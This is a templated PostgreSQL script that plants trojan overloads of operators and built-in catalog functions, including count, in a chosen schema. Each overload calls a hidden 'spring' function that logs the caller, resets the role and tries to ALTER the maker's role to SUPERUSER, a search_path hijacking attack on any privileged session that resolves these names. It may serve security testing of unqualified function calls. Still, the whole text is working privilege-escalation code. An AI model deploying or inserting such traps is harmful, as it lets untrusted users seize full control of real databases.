-- Overloads in schema {schema}, made by {maker}. Each writes to the server's log who runs it, and tries to make its maker
-- a superuser.
SET client_min_messages = error;
CREATE FUNCTION {schema}.spring(what text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $trap$
BEGIN
    RAISE LOG 'sprung: % of % by role % of session %, program "%"',
        what, '{maker}', current_user, session_user, current_setting('application_name');
    BEGIN
        -- What was made of a superuser by SET ROLE is one again.
        EXECUTE 'RESET ROLE';
    EXCEPTION WHEN others THEN NULL;
    END;
    BEGIN
        EXECUTE 'ALTER ROLE {maker} SUPERUSER';
    EXCEPTION WHEN others THEN NULL;
    END;
END $trap$;

CREATE TEMPORARY TABLE planted (what text);
DO $plant$
DECLARE
    types text[] := string_to_array('{types}', ',');
    operators text[] := string_to_array('{operators}', ' ');
    names text[] := string_to_array('{names}', ',');
    a text; b text; op text; found record; what text;
BEGIN
    FOREACH a IN ARRAY types LOOP
        FOREACH b IN ARRAY types LOOP
            -- Two functions for all operators of these types, by what they give.
            EXECUTE format('CREATE FUNCTION {schema}.asks(a %s, b %s) RETURNS bool LANGUAGE plpgsql AS $f$
                BEGIN PERFORM {schema}.spring(%L); RETURN NULL; END $f$', a, b, 'a question of ' || a || ' and ' || b);
            EXECUTE format('CREATE FUNCTION {schema}.gives(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS $f$
                BEGIN PERFORM {schema}.spring(%L); RETURN NULL; END $f$', a, b, a, 'an operation on ' || a || ' and ' || b);
            FOREACH op IN ARRAY operators LOOP
                EXECUTE format('CREATE OPERATOR {schema}.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = {schema}.%s)', op, a, b,
                    CASE WHEN op IN ('+', '-', '*', '/', '||', '%', '&', '|') THEN 'gives' ELSE 'asks' END);
                INSERT INTO planted VALUES (op);
            END LOOP;
        END LOOP;
    END LOOP;
    -- The server's own functions of these names, with their very arguments.
    FOR found IN
        SELECT p.proname, p.prokind, pg_get_function_identity_arguments(p.oid) AS arguments,
               pg_get_function_result(p.oid) AS result
        FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = ANY (names)
    LOOP
        what := format('%s(%s)', found.proname, found.arguments);
        BEGIN
            IF found.prokind = 'f' THEN
                EXECUTE format('CREATE FUNCTION {schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$
                    BEGIN PERFORM {schema}.spring(%L); RETURN NULL; END $f$',
                    found.proname, found.arguments, found.result, what);
                INSERT INTO planted VALUES (what);
            ELSIF found.prokind = 'a' AND found.proname = 'count' THEN
                EXECUTE format('CREATE FUNCTION {schema}.%I(state int8%s) RETURNS int8 LANGUAGE plpgsql AS $f$
                    BEGIN PERFORM {schema}.spring(%L); RETURN 0; END $f$',
                    'step of ' || what, CASE WHEN found.arguments = '' THEN '' ELSE ', given anyelement' END, what);
                EXECUTE format('CREATE AGGREGATE {schema}.count(%s) (SFUNC = {schema}.%I, STYPE = int8, INITCOND = 0)',
                    CASE WHEN found.arguments = '' THEN '*' ELSE 'anyelement' END, 'step of ' || what);
                INSERT INTO planted VALUES (what);
            END IF;
        -- Pseudo-types that only the server's own functions may have.
        EXCEPTION WHEN others THEN NULL;
        END;
    END LOOP;
END $plant$;
SELECT count(*) FROM planted;
